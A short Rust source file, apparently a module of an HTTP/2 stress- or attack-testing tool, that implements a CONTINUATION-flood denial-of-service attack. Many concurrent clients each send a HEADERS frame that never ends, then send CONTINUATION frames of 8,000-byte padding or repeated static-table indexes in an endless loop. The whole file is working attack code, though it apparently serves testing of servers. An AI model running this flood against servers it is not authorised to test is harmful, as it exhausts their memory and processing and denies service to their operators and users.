//! An HTTP/2 request with endless header fields: one CONTINUATION frame after another.

use crate::Aim;
use crate::attack::{Attack, Class};
use crate::http2::{Http2, field, frame, kind};

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Client,
    "HTTP/2, endless fields",
    "CONTINUATION frames without an end",
    |aim| Box::pin(run(aim)),
);

async fn run(aim: Aim) {
    let client = async |aim: Aim, number: u64| {
        let mut http2 = Http2::connect(&aim, &[]).await?;
        let stream = http2.stream()?;
        let fields = http2.fields();
        http2
            .send(&frame(kind::HEADERS, 0, stream, &fields))
            .await?;
        let more = match number % 2 {
            0 => field("x-more", &"x".repeat(8_000)),
            // Entry 3 of the static table, thousands of times: a byte each.
            _ => vec![0x83; 8_000],
        };
        let more = frame(kind::CONTINUATION, 0, stream, &more);
        let mut round = 0;
        while aim.goes_on(round) {
            http2.send(&more).await?;
            tokio::task::yield_now().await;
            round += 1;
        }
        Ok(())
    };
    aim.crowd(client).await;
}
